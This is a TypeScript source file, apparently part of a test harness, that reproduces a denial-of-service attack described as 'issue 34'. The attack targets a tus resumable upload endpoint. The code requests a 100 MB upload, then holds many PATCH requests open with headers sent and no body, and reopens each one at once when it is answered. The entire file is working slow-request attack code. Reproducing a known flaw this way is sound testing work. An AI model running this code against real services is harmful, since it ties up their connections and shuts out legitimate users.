import { request, type ClientRequest } from "node:http";

// The attack of issue 34: one account's own upload URL, which needs no key, with many PATCH requests held open
// (headers sent, not one byte of the body). Each request answered is opened again at once.

const DECLARED_BYTES = 100 * 1024 * 1024;

export interface HeldRequests {
  /** Requests opened, and each answer's status (`upload <status>`). */
  opened: number;
  statusCodes: Record<string, number>;
}

export interface HoldOptions {
  url: string;
  key: string;
  /** Requests held open at once. */
  held: number;
  signal: AbortSignal;
  /** Resolves while the attack may go on (waits while it is paused). */
  pass(): Promise<void>;
  /** Called when the attack pauses or stops: the requests open then are closed. */
  onPause(listener: () => void): void;
}

export async function holdUploadRequests(options: HoldOptions, counts: HeldRequests): Promise<void> {
  const { url, key, signal } = options;
  const created = await fetch(`${url}/v1/uploads`, {
    method: "POST",
    headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
    body: JSON.stringify({ size_bytes: DECLARED_BYTES }),
  });
  const body = (await created.json()) as { upload_url?: string };
  if (created.status !== 201 || !body.upload_url) throw new Error(`the attacker's upload was refused: ${created.status} ${JSON.stringify(body)}`);
  const uploadUrl = body.upload_url;
  const open = new Set<ClientRequest>();
  options.onPause(() => {
    for (const req of open) req.destroy();
  });
  const note = (what: string) => (counts.statusCodes[what] = (counts.statusCodes[what] ?? 0) + 1);
  const holdOne = async () => {
    while ((await options.pass(), !signal.aborted)) {
      await new Promise<void>((resolve) => {
        const req = request(uploadUrl, {
          method: "PATCH",
          // A connection of its own each: a held request never waits behind another in an agent's pool.
          agent: false,
          headers: { "tus-resumable": "1.0.0", "upload-offset": "0", "content-type": "application/offset+octet-stream", "content-length": String(DECLARED_BYTES) },
        });
        req.on("response", (res) => {
          note(`upload ${res.statusCode}`);
          res.resume();
          req.destroy();
        });
        req.on("error", () => undefined);
        req.on("close", () => {
          open.delete(req);
          resolve();
        });
        open.add(req);
        req.flushHeaders();
        counts.opened += 1;
      });
    }
  };
  await Promise.all(Array.from({ length: options.held }, holdOne));
}
